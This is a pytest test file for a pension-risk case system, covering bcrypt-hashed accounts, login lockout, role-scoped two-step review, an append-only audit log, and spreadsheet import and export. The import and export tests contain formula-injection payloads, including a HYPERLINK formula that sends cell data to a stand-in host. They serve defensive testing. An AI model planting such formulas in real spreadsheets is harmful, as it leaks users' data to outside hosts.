"""Accounts, roles, two-step review (初审 -> 复核), the audit log and formula-free exports."""

from __future__ import annotations

import datetime as dt
import io
import os
import re
import stat
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from pension_risk.access import accounts, audit
from pension_risk.access.roles import AccessDenied
from pension_risk.cases import cli as cases_cli
from pension_risk.cases import service
from pension_risk.cases.store import CaseStore, CaseStoreError, default_store_path
from pension_risk.cli import main
from pension_risk.errors import PensionRiskError
from tests.access_helpers import ACCOUNTS, add_accounts, password
from tests.test_cases_roundtrip import _fill, _row_of, make_warehouse

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture
def warehouse(tmp_path: Path) -> Path:
    path = make_warehouse(tmp_path / "w.duckdb")
    add_accounts(default_store_path(path))
    return path


def _principal(store: Path, login: str):
    return accounts.principal(store, login)


# ---------------------------------------------------------------- accounts

def test_passwords_are_slow_salted_hashes_and_never_listed(tmp_path: Path):
    store = tmp_path / "cases.sqlite"
    accounts.add_account(store, "li", "李四", "verifier", "340403", "a-long-password", by="ops", source="test")
    accounts.add_account(store, "wang", "王五", "verifier", "340403", "a-long-password", by="ops", source="test")
    import sqlite3

    con = sqlite3.connect(store)
    hashes = [r[0] for r in con.execute("select password_hash from accounts order by login")]
    con.close()
    assert all(h.startswith("$2b$12$") for h in hashes)        # bcrypt, cost 12
    assert hashes[0] != hashes[1]                              # salted: same password, different hashes
    assert "a-long-password" not in store.read_bytes().decode("latin-1")
    listed = accounts.list_accounts(store)
    assert [a["login"] for a in listed] == ["li", "wang"]
    assert all("password" not in k for a in listed for k in a)


@pytest.mark.parametrize("role, agency, message", [
    ("verifier", None, "needs --agency"),
    ("admin", "340403", "no agency scope"),
    ("leader", "349999", "unknown agency code"),
    ("boss", None, "unknown role"),
])
def test_account_rules(tmp_path: Path, role, agency, message):
    with pytest.raises(PensionRiskError, match=message):
        accounts.add_account(tmp_path / "c.sqlite", "x1", "某人", role, agency, "a-long-password", by="o", source="t")


def test_short_password_and_duplicate_login(tmp_path: Path):
    store = tmp_path / "c.sqlite"
    with pytest.raises(PensionRiskError, match="at least 10 characters"):
        accounts.add_account(store, "x1", "某人", "leader", None, "short", by="o", source="t")
    accounts.add_account(store, "x1", "某人", "leader", None, "long-enough-1", by="o", source="t")
    with pytest.raises(PensionRiskError, match="already exists"):
        accounts.add_account(store, "x1", "某人", "leader", None, "long-enough-1", by="o", source="t")


def test_five_failed_logins_lock_the_account_for_15_minutes(tmp_path: Path):
    store = tmp_path / "c.sqlite"
    accounts.add_account(store, "li", "李四", "leader", None, "right-password", by="o", source="t")
    for i in range(4):
        with pytest.raises(accounts.LoginFailed, match=f"还可尝试 {4 - i} 次"):
            accounts.authenticate(store, "li", "wrong-password", source="t")
    with pytest.raises(accounts.LoginFailed, match="已锁定 15 分钟"):
        accounts.authenticate(store, "li", "wrong-password", source="t")
    # locked: even the right password is refused
    with pytest.raises(accounts.LoginFailed, match="锁定至"):
        accounts.authenticate(store, "li", "right-password", source="t")
    assert "li" not in accounts.login_credentials(store)["usernames"]  # the dashboard cannot log it in either
    actions = [e["action"] for e in audit.search(store, login="li")]
    assert actions == ["login_failed"] * 5 + ["account_locked", "login_failed"]
    # after 15 minutes it may log in again
    import sqlite3

    con = sqlite3.connect(store)
    con.execute("update accounts set locked_until = '2000-01-01 00:00:00' where login = 'li'")
    con.commit()
    con.close()
    assert accounts.authenticate(store, "li", "right-password", source="t").login == "li"


def test_disabled_account_cannot_log_in_and_is_kept(tmp_path: Path):
    store = tmp_path / "c.sqlite"
    accounts.add_account(store, "li", "李四", "leader", None, "right-password", by="o", source="t")
    assert accounts.disable_account(store, "li", by="o", source="t") is True
    assert accounts.disable_account(store, "li", by="o", source="t") is False
    with pytest.raises(accounts.LoginFailed):
        accounts.authenticate(store, "li", "right-password", source="t")
    assert accounts.principal(store, "li") is None
    assert [(a["login"], a["status"]) for a in accounts.list_accounts(store)] == [("li", "disabled")]


def test_users_commands(tmp_path: Path, monkeypatch, capsys):
    wh = tmp_path / "w.duckdb"
    monkeypatch.setattr(sys, "stdin", io.StringIO("a-long-password\n"))
    assert main(["users", "add", "zhang", "--name", "张三", "--role", "verifier", "--agency", "340403",
                 "--warehouse", str(wh)]) == 0
    monkeypatch.setattr(sys, "stdin", io.StringIO("short\n"))
    assert main(["users", "add", "zhao", "--name", "赵六", "--role", "leader", "--warehouse", str(wh)]) == 1
    assert "at least 10 characters" in capsys.readouterr().err
    assert main(["users", "disable", "zhang", "--warehouse", str(wh)]) == 0
    capsys.readouterr()
    assert main(["users", "list", "--warehouse", str(wh)]) == 0
    out = capsys.readouterr().out
    assert out.splitlines() == ["login,name,role,agency,status", "zhang,张三,verifier,340403,disabled"]
    events = audit.search(default_store_path(wh))
    assert [e["action"] for e in events] == ["account_add", "account_disable"]
    assert all(re.match(r"cli:[^@]+@.+:users (add|disable)$", e["source"]) for e in events)
    assert all("a-long-password" not in str(e) for e in events)


def test_case_store_file_is_owner_and_group_only(tmp_path: Path):
    store = tmp_path / "c.sqlite"
    old = os.umask(0o022)
    try:
        CaseStore(store).initialize()
    finally:
        os.umask(old)
    assert stat.S_IMODE(store.stat().st_mode) == 0o660


# ---------------------------------------------------------------- two-step review

def test_review_states_and_mutually_exclusive_rights(warehouse: Path):
    store = default_store_path(warehouse)
    verifier = _principal(store, "verifier_340403")
    reviewer = _principal(store, "reviewer_340403")
    city_reviewer = _principal(store, "reviewer")
    other_verifier = _principal(store, "verifier_340402")
    cs = CaseStore(store)

    result = service.record_case(verifier, "f-r01-b", {"conclusion": "属实", "recovered_amount": "100"},
                                 warehouse=warehouse)
    assert cs.get_case("f-r01-b")["review_status"] == "待复核"
    # the verifier cannot review, the reviewer cannot record, another agency's verifier cannot touch it
    with pytest.raises(AccessDenied, match="无权复核"):
        service.review_case(verifier, "f-r01-b", "通过", warehouse=warehouse)
    with pytest.raises(AccessDenied, match="无权登记"):
        service.record_case(reviewer, "f-r01-b", {"conclusion": "不属实"}, warehouse=warehouse)
    with pytest.raises(AccessDenied, match="案件属于 340403"):
        service.record_case(other_verifier, "f-r01-b", {"conclusion": "不属实"}, warehouse=warehouse)
    # returned: back to the verifier, who changes it: 待复核 again
    service.review_case(reviewer, "f-r01-b", "退回", "请补充死亡证明", warehouse=warehouse,
                        expected_version=result.version)
    case = cs.get_case("f-r01-b")
    assert (case["review_status"], case["reviewed_by"], case["review_note"]) == ("已退回", "reviewer_340403",
                                                                                  "请补充死亡证明")
    with pytest.raises(CaseStoreError, match="只有“待复核”的案件可以复核"):
        service.review_case(city_reviewer, "f-r01-b", "通过", warehouse=warehouse)
    service.record_case(verifier, "f-r01-b", {"problem_note": "已补充死亡证明"}, warehouse=warehouse)
    assert cs.get_case("f-r01-b")["review_status"] == "待复核"
    assert cs.get_case("f-r01-b")["reviewed_by"] is None
    service.review_case(city_reviewer, "f-r01-b", "通过", warehouse=warehouse)
    case = cs.get_case("f-r01-b")
    assert (case["review_status"], case["reviewed_by"]) == ("已复核", "reviewer")
    # a 退回 needs a reason; 核查中 cannot be passed
    service.record_case(verifier, "f-r07-a", {"conclusion": "核查中"}, warehouse=warehouse)
    with pytest.raises(CaseStoreError, match="须填写复核意见"):
        service.review_case(reviewer, "f-r07-a", "退回", warehouse=warehouse)
    with pytest.raises(CaseStoreError, match="只有属实或不属实的结论可以复核通过"):
        service.review_case(reviewer, "f-r07-a", "通过", warehouse=warehouse)
    # a 340403 reviewer cannot review a 340406 case
    cs.record_conclusion("f-r01-a", {"conclusion": "属实"}, "someone", case_type="flag",
                         identity={"county_code": "340406"})
    with pytest.raises(AccessDenied, match="案件属于 340406"):
        service.review_case(reviewer, "f-r01-a", "通过", warehouse=warehouse)


def test_a_reviewer_never_reviews_its_own_change(tmp_path: Path):
    cs = CaseStore(tmp_path / "c.sqlite")
    cs.record_conclusion("f1", {"conclusion": "属实"}, "zhang")
    with pytest.raises(CaseStoreError, match="不能复核自己的修改"):
        cs.review_case("f1", "通过", None, "zhang")
    assert cs.get_case("f1")["review_status"] == "待复核"
    assert cs.review_case("f1", "通过", None, "li").changed
    assert not cs.review_case("f1", "通过", None, "li").changed  # the same review again: nothing new


# ---------------------------------------------------------------- cases import as an account

def _fill_rows(warehouse: Path, tmp_path: Path, edits_by_case: dict[str, dict]) -> Path:
    exported = tmp_path / "all.xlsx"
    cases_cli.export_command(warehouse, exported, None, None)
    edits = {_row_of(exported, case_id): values for case_id, values in edits_by_case.items()}
    return _fill(exported, tmp_path / "filled.xlsx", edits)


def test_import_with_wrong_password_or_disabled_account_records_nothing(warehouse: Path, tmp_path: Path,
                                                                        monkeypatch, capsys):
    store = default_store_path(warehouse)
    filled = _fill_rows(warehouse, tmp_path, {"f-r01-b": {"核查结论": "属实"}})
    before = CaseStore(store).history_count()
    monkeypatch.setattr(sys, "stdin", io.StringIO("not-the-password\n"))
    assert main(["cases", "import", str(filled), "--warehouse", str(warehouse), "--by", "verifier_340403"]) == 1
    assert "账号或密码错误" in capsys.readouterr().err
    assert CaseStore(store).history_count() == before and CaseStore(store).get_case("f-r01-b") is None
    accounts.disable_account(store, "verifier_340403", by="ops", source="test")
    monkeypatch.setattr(sys, "stdin", io.StringIO(password("verifier_340403") + "\n"))
    assert main(["cases", "import", str(filled), "--warehouse", str(warehouse), "--by", "verifier_340403"]) == 1
    assert CaseStore(store).get_case("f-r01-b") is None
    failed = audit.search(store, action="login_failed")
    assert [e["detail"] for e in failed] == ["wrong password (1 in a row)", "account disabled"]


def test_import_reports_every_refused_row_and_keeps_the_others(warehouse: Path, tmp_path: Path, capsys):
    store = default_store_path(warehouse)
    filled = _fill_rows(warehouse, tmp_path, {
        "f-r01-b": {"核查结论": "属实", "追回金额(元)": 10},       # 340403: accepted
        "f-r01-a": {"核查结论": "属实"},                          # 340406: another agency
        "f-r07-a": {"核查结论": "不属实", "复核结论": "通过"},      # a verifier may not review
        "SUS-YD1": {"追回金额(元)": "1e30"},                       # absurd amount
    })
    code = cases_cli.import_command(filled, warehouse, "verifier_340403", None, password=password("verifier_340403"))
    assert code == 3
    err = capsys.readouterr().err
    assert re.search(r"row \d+: rejected: .*无权登记案件 f-r01-a：案件属于 340406", err)
    assert re.search(r"row \d+: rejected: .*无权复核", err)
    assert re.search(r"row \d+: rejected: 追回金额 1e30 is not plausible", err)
    assert "1 changed, 0 unchanged, 3 rejected" in err
    cs = CaseStore(store)
    assert cs.get_case("f-r01-b")["conclusion"] == "属实"
    assert cs.get_case("f-r01-a") is None and cs.get_case("f-r07-a") is None and cs.get_case("SUS-YD1") is None


def test_reviewer_import_passes_and_returns_and_is_idempotent(warehouse: Path, tmp_path: Path):
    store = default_store_path(warehouse)
    verifier = _principal(store, "verifier_340403")
    service.record_case(verifier, "f-r01-b", {"conclusion": "属实"}, warehouse=warehouse)
    service.record_case(verifier, "SUS-YD1", {"conclusion": "不属实"}, warehouse=warehouse)
    filled = _fill_rows(warehouse, tmp_path, {
        "f-r01-b": {"复核结论": "通过"},
        "SUS-YD1": {"复核结论": "退回", "复核意见": "缺少走访记录"},
        "f-r07-a": {"复核结论": "通过"},      # nothing recorded: nothing to review
        "f-r01-a": {"核查结论": "属实"},       # a reviewer may not record
    })
    login = "reviewer"
    assert cases_cli.import_command(filled, warehouse, login, None, password=password(login)) == 3
    cs = CaseStore(store)
    assert (cs.get_case("f-r01-b")["review_status"], cs.get_case("f-r01-b")["reviewed_by"]) == ("已复核", login)
    assert (cs.get_case("SUS-YD1")["review_status"], cs.get_case("SUS-YD1")["review_note"]) == ("已退回", "缺少走访记录")
    assert cs.get_case("f-r01-a") is None
    count = cs.history_count()
    assert cases_cli.import_command(filled, warehouse, login, None, password=password(login)) == 3
    assert cs.history_count() == count          # re-importing the same file changes nothing


def test_import_refuses_formulas_future_dates(warehouse: Path, tmp_path: Path, capsys):
    filled = _fill_rows(warehouse, tmp_path, {
        "f-r01-b": {"核查结论": "属实", "核查日期": dt.date(2999, 1, 1)},
        "f-r07-a": {"问题说明": '=HYPERLINK("http://x/?"&H3,"详情")'},
    })
    login = "verifier_340403"
    assert cases_cli.import_command(filled, warehouse, login, None, password=password(login)) == 3
    err = capsys.readouterr().err
    assert "核查日期 2999-01-01 is in the future" in err
    assert "单元格为公式（问题说明）" in err
    assert CaseStore(default_store_path(warehouse)).get_case("f-r07-a") is None


# ---------------------------------------------------------------- exports never write formulas

def test_exported_worklist_has_no_formula_cell(warehouse: Path, tmp_path: Path):
    store = default_store_path(warehouse)
    verifier = _principal(store, "verifier_340403")
    risky = {"f-r01-b": '=HYPERLINK("http://x/?"&H3&I3,"详情")', "f-r07-a": "+1+1", "SUS-YD1": "-2+3"}
    for case_id, note in risky.items():
        service.record_case(verifier, case_id, {"problem_note": note, "rectification_measures": "@SUM(A1)"},
                            warehouse=warehouse)
    out = tmp_path / "out.xlsx"
    cases_cli.export_command(warehouse, out, None, None)
    wb = load_workbook(out)
    formulas = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    rows = {r[0]: r for r in wb["风险台账"].iter_rows(min_row=2, values_only=True)}
    header = [c.value for c in wb["风险台账"][1]]
    for case_id, note in risky.items():
        assert rows[case_id][header.index("问题说明")] == note      # kept as the text it is
    assert (wb["风险台账"][f"{_col(header, '问题说明')}{_row_of(out, 'f-r01-b')}"].quotePrefix) is True


def _col(header: list, name: str) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(header.index(name) + 1)


# ---------------------------------------------------------------- the audit log

def test_audit_log_is_append_only(tmp_path: Path):
    store = tmp_path / "c.sqlite"
    audit.log(store, "login", login="x", role="leader", source="t")
    import sqlite3

    con = sqlite3.connect(store)
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        con.execute("update audit_log set login = 'y'")
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        con.execute("delete from audit_log")
    con.close()
    assert [e["login"] for e in audit.search(store)] == ["x"]


def test_no_product_code_updates_or_deletes_audit_rows():
    pattern = re.compile(r"(update\s+audit_log|delete\s+from\s+audit_log|drop\s+table\s+(if\s+exists\s+)?audit_log)",
                         re.IGNORECASE)
    offenders = []
    for folder in ("src", "dashboards", "orchestration", "dbt_project", "scripts"):
        for path in (ROOT / folder).rglob("*"):
            if path.suffix in (".py", ".sql") and path.is_file():
                text = path.read_text(encoding="utf-8")
                # the triggers that forbid it are the only mention
                for m in pattern.finditer(text):
                    line = text[text.rfind("\n", 0, m.start()) + 1:text.find("\n", m.end())]
                    if "before update on audit_log" not in line and "before delete on audit_log" not in line:
                        offenders.append(f"{path.relative_to(ROOT)}: {line.strip()}")
    assert offenders == []


def test_audit_command_filters_and_prints_csv(tmp_path: Path, capsys):
    wh = tmp_path / "w.duckdb"
    store = default_store_path(wh)
    audit.log(store, "login", login="a", role="leader", source="dashboard", at=dt.datetime(2026, 1, 5, 9, 0))
    audit.log(store, "login_failed", login="b", source="dashboard", at=dt.datetime(2026, 2, 5, 9, 0))
    audit.log(store, "record", login="c", role="verifier", target="f1", source="dashboard",
              at=dt.datetime(2026, 3, 5, 9, 0))
    assert main(["audit", "--warehouse", str(wh), "--since", "2026-02-01"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "at,login,role,action,target,detail,source"
    assert [line.split(",")[3] for line in lines[1:]] == ["login_failed", "record"]
    assert main(["audit", "--warehouse", str(wh), "--action", "record", "--login", "c"]) == 0
    assert capsys.readouterr().out.splitlines()[1].startswith("2026-03-05 09:00:00,c,verifier,record,f1")
    assert main(["audit", "--warehouse", str(wh), "--action", "nonsense"]) == 1


def test_accounts_of_the_tests_cover_every_role():
    assert {role for _n, role, _a, _p in ACCOUNTS.values()} == {"leader", "verifier", "reviewer", "admin", "auditor"}


def test_demo_creates_one_account_per_role_that_logs_in(tmp_path: Path):
    from pension_risk.demo import ACCOUNTS_FILE, demo_accounts

    wh = tmp_path / "warehouse.duckdb"
    made = demo_accounts(wh, tmp_path)
    assert {role for _n, role, _a, _p in made.values()} == {"leader", "verifier", "reviewer", "admin", "auditor"}
    assert made["verifier_340403"][2] == "340403" and made["reviewer"][2] is None
    listing = (tmp_path / ACCOUNTS_FILE).read_text(encoding="utf-8").splitlines()
    assert len(listing) == 1 + len(made)
    assert stat.S_IMODE((tmp_path / ACCOUNTS_FILE).stat().st_mode) == 0o600
    store = default_store_path(wh)
    for login, (_name, role, _agency, pw) in made.items():
        assert accounts.authenticate(store, login, pw, source="test").role_code == role
    again = demo_accounts(wh, tmp_path)            # a second demo gives new passwords, same accounts
    assert set(again) == set(made) and again["leader"][3] != made["leader"][3]
    assert len(accounts.list_accounts(store)) == len(made)
